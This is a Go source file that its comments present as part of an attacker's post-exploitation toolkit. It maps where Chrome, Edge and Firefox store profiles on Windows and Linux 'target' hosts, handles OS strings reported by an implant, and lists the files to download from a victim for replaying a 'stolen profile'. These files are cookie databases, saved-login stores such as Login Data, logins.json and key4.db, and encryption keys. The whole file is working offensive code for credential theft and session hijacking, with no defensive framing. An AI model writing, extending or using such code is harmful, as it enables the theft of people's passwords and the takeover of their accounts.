// Package profile knows where browsers keep their profiles on a target host
// and generates the snippets an operator needs to replay a stolen profile or
// route a local browser through a pivot.
package profile

import "strings"

// Browser identifies a supported browser family.
type Browser string

const (
	Chrome  Browser = "chrome"
	Edge    Browser = "edge"
	Firefox Browser = "firefox"
)

// OS identifies a target operating system family.
type OS string

const (
	Windows OS = "windows"
	Linux   OS = "linux"
)

// NormalizeOS folds a free-form OS string reported by an implant onto a
// supported family. Anything that is not Windows is treated as Linux.
func NormalizeOS(s string) OS {
	if strings.EqualFold(strings.TrimSpace(s), string(Windows)) {
		return Windows
	}
	return Linux
}

// Paths describes where a browser is installed and where it keeps cookies.
type Paths struct {
	Executables []string
	ProfileBase string
	CookieFile  string
	LocalState  string
}

var windowsPaths = map[Browser]Paths{
	Chrome: {
		Executables: []string{
			`C:\Program Files\Google\Chrome\Application\chrome.exe`,
			`C:\Program Files (x86)\Google\Chrome\Application\chrome.exe`,
		},
		ProfileBase: `%LOCALAPPDATA%\Google\Chrome\User Data`,
		CookieFile:  "Cookies",
		LocalState:  "Local State",
	},
	Edge: {
		Executables: []string{
			`C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe`,
			`C:\Program Files\Microsoft\Edge\Application\msedge.exe`,
		},
		ProfileBase: `%LOCALAPPDATA%\Microsoft\Edge\User Data`,
		CookieFile:  "Cookies",
		LocalState:  "Local State",
	},
	Firefox: {
		Executables: []string{
			`C:\Program Files\Mozilla Firefox\firefox.exe`,
			`C:\Program Files (x86)\Mozilla Firefox\firefox.exe`,
		},
		ProfileBase: `%APPDATA%\Mozilla\Firefox\Profiles`,
		CookieFile:  "cookies.sqlite",
	},
}

var linuxPaths = map[Browser]Paths{
	Chrome: {
		Executables: []string{"/usr/bin/google-chrome", "/usr/bin/google-chrome-stable"},
		ProfileBase: "~/.config/google-chrome",
		CookieFile:  "Cookies",
		LocalState:  "Local State",
	},
	Firefox: {
		Executables: []string{"/usr/bin/firefox"},
		ProfileBase: "~/.mozilla/firefox",
		CookieFile:  "cookies.sqlite",
	},
}

// Lookup returns the install and profile paths for a browser on an OS.
func Lookup(os OS, b Browser) (Paths, bool) {
	table := linuxPaths
	if os == Windows {
		table = windowsPaths
	}
	p, ok := table[b]
	if !ok {
		return Paths{CookieFile: "Cookies"}, false
	}
	return p, true
}

// File is one profile artifact worth downloading from a target.
type File struct {
	Name     string `json:"name"`
	BasePath string `json:"base_path"`
	Profile  string `json:"profile"`
}

// Files lists the artifacts that make up a browser profile.
func Files(os OS, b Browser, profileName string) []File {
	p, _ := Lookup(os, b)
	names := []string{"Cookies", "Login Data", "Web Data", "Local State"}
	if os == Windows {
		names = append(names, "Bookmarks")
	}
	if b == Firefox {
		names = []string{"cookies.sqlite", "logins.json", "key4.db", "cert9.db"}
	}
	if profileName == "" {
		profileName = "Default"
	}

	out := make([]File, 0, len(names))
	for _, n := range names {
		out = append(out, File{Name: n, BasePath: p.ProfileBase, Profile: profileName})
	}
	return out
}
